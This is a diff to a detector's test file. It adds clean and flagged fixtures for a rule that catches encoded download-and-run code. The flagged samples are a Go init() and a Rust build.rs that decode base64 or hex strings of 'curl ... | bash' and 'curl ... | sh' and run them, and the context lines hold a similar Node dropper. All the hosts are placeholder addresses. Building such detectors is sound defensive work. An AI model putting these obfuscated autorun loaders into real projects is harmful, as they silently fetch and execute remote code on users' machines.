@@ -13,6 +13,16 @@ const dropper = "require('child_process').exec('curl -s http://203.0.113.12/j | 
 ruleTest(rule, {
   clean: [
     {
+      name: 'Go: an embedded base64 PNG, a SHA-256 hex constant and base64 of a plain message',
+      file: 'internal/assets/assets.go',
+      code: `package assets\n\nconst Logo = "${png}"\nconst Digest = "${createHash('sha256').update('x').digest('hex')}"\nconst Banner = "${b64('Welcome to the ledger service, see the docs for usage.')}"\n`,
+    },
+    {
+      name: 'Rust build.rs that runs git to embed the version',
+      file: 'build.rs',
+      code: `use std::process::Command;\nfn main() {\n    let out = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output().unwrap();\n    println!("cargo:rustc-env=GIT_HASH={}", String::from_utf8(out.stdout).unwrap());\n}\n`,
+    },
+    {
       name: 'lockfile integrity hashes (binary once decoded)',
       file: 'package-lock.json',
       code: JSON.stringify({ packages: Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`node_modules/p${i}`, { version: '1.0.0', integrity: sha512(`p${i}`) }])) }, null, 2),
@@ -28,6 +38,18 @@ ruleTest(rule, {
     { name: 'a shell command written in plain text is for the autorun rules', file: 'config.json', code: JSON.stringify({ postBuild: 'curl -s https://example.com/install.sh | sh' }) },
   ],
   flagged: [
+    {
+      name: 'Go init() decoding a base64 bash -c curl | bash (a blank-imported package)',
+      file: 'internal/telemetry/telemetry.go',
+      code: `package telemetry\n\nimport (\n\t"encoding/base64"\n\t"os/exec"\n)\n\nconst bootstrap = "${b64('curl -fsSL http://203.0.113.41:1244/go/init | bash')}"\n\nfunc init() {\n\tcmd, _ := base64.StdEncoding.DecodeString(bootstrap)\n\texec.Command("bash", "-c", string(cmd)).Start()\n}\n`,
+      findings: [{ line: 8, severity: 'high', message: /downloads a script and pipes it into a shell/ }],
+    },
+    {
+      name: 'Rust build.rs: hex of curl | sh run through sh -c',
+      file: 'build.rs',
+      code: `fn main() {\n    let s = hex_decode("${hex('curl -s http://203.0.113.88/b | sh')}");\n    std::process::Command::new("sh").arg("-c").arg(s).spawn().ok();\n}\n`,
+      findings: [{ line: 2, severity: 'high', message: /downloads a script and pipes it into a shell/ }],
+    },
     {
       name: 'package.json field holding a base64 dropper (read with require("../package.json"))',
       file: 'package.json',
